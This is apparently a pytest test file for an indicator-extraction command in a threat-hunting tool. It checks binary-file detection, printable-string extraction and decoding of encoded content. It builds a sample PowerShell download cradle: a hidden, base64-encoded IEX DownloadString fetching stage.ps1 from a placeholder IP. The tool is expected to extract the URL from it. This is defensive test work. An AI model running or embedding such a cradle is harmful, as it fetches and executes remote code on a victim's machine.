"""``huntbook iocs`` on binary files, with --binary, --unpack and --unique, through the real command."""

from __future__ import annotations

import base64
import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from huntbook.analysis.iocs.sources import is_binary, printable_strings

HUNTBOOK = Path(sys.executable).with_name("huntbook")
EVTX = Path("evtx") / "Discovery" / "discovery_bloodhound.evtx"
URL = "http://198.51.100.23/stage.ps1"
CRADLE = "powershell -nop -w hidden -enc " + base64.b64encode(
    f"IEX (New-Object Net.WebClient).DownloadString('{URL}')".encode("utf-16-le")
).decode()


def huntbook(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [str(HUNTBOOK), "iocs", *args], input=stdin, capture_output=True, check=False, timeout=120
    )
    return subprocess.CompletedProcess(
        result.args, result.returncode, result.stdout.decode(), result.stderr.decode()
    )


def rows(result: subprocess.CompletedProcess[str]) -> list[dict[str, str]]:
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_a_binary_file_is_refused_with_what_to_pass(shared_data: Path) -> None:
    result = huntbook(str(shared_data / EVTX))
    assert result.returncode == 2
    assert "binary file" in result.stderr and "--binary" in result.stderr
    assert result.stdout == ""


def test_binary_input_on_stdin_is_refused_too(shared_data: Path) -> None:
    result = huntbook("-", stdin=(shared_data / EVTX).read_bytes())
    assert result.returncode == 2 and "--binary" in result.stderr


def test_binary_searches_printable_strings(shared_data: Path) -> None:
    found = rows(huntbook(str(shared_data / EVTX), "--binary", "-f", "csv"))
    urls = {r["observable"] for r in found if r["type"] == "url"}
    assert "http://schemas.microsoft.com/win/2004/08/events/event" in urls  # UTF-16LE inside the file
    assert not [r for r in found if r["type"] in ("md5", "sha1", "sha256")]


def test_base64_of_a_binary_is_text_but_yields_no_junk(shared_data: Path, tmp_path: Path) -> None:
    path = tmp_path / "payload.b64"
    path.write_text(base64.encodebytes((shared_data / EVTX).read_bytes()).decode())
    assert rows(huntbook(str(path), "-f", "csv")) == []


def test_unpack_finds_the_url_of_an_encoded_cradle(tmp_path: Path) -> None:
    path = tmp_path / "cmd.txt"
    path.write_text(f"benign line\n{CRADLE}\n")
    assert rows(huntbook(str(path), "-f", "csv")) == []
    found = rows(huntbook(str(path), "--unpack", "-f", "csv"))
    got = [(r["type"], r["observable"], r["line"], r["decoded"]) for r in found]
    assert got == [("url", URL, "2", "True")]


def test_unique_counts_each_observable_once(tmp_path: Path) -> None:
    path = tmp_path / "log.txt"
    path.write_text("a 10.1.2.3\nb evil.example.com 10.1.2.3\nc 10.1.2.3\n")
    found = rows(huntbook(str(path), "--unique", "-f", "csv"))
    assert found == [
        {"type": "ipv4", "observable": "10.1.2.3", "count": "3", "first_line": "1"},
        {"type": "domain", "observable": "evil.example.com", "count": "1", "first_line": "2"},
    ]


def test_code_names_are_domains_only_when_asked(tmp_path: Path) -> None:
    path = tmp_path / "drop.vbs"
    path.write_text('Set sh = CreateObject("wscript.shell")\nSet s = CreateObject("adodb.stream")\n')
    assert rows(huntbook(str(path), "-f", "csv")) == []
    found = rows(huntbook(str(path), "--code-names", "-f", "csv"))
    assert [r["observable"] for r in found] == ["wscript.shell", "adodb.stream"]


@pytest.mark.parametrize(
    ("data", "binary"),
    [
        (b"plain text\nwith lines\n", False),
        ("utf-8 text: caf\u00e9 \u2014 ok".encode(), False),
        ("cut at the end \u00e9".encode()[:-1], False),
        (b"MZ\x90\x00\x03\x00\x00\x00", True),
        (b"\xff\xfe\xfa latin junk \xe9\xe8", True),
        (bytes(range(1, 32)) * 10, True),
    ],
)
def test_is_binary(data: bytes, binary: bool) -> None:
    assert is_binary(data) is binary


def test_printable_strings_ascii_and_utf16() -> None:
    data = b"\x00\x01hello world\x00\x02ab\x01\x00" + "wide string".encode("utf-16-le") + b"\x00\x00"
    assert printable_strings(data) == ["hello world", "wide string"]
